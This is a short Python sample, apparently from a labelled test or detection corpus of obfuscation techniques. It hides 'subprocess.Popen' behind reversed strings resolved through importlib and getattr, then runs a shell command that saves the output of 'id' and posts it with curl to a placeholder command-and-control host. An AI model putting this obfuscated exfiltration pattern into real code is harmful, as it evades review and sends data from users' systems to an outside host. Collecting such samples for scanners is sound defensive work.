# family: obfuscated-names
# reversed names resolved through importlib and getattr
import importlib

mod = importlib.import_module("ssecorpbus"[::-1])
run = getattr(mod, "nepoP"[::-1])
run(["/bin/sh", "-c", "id > /tmp/.x; curl -d @/tmp/.x http://c2.example.invalid/"])
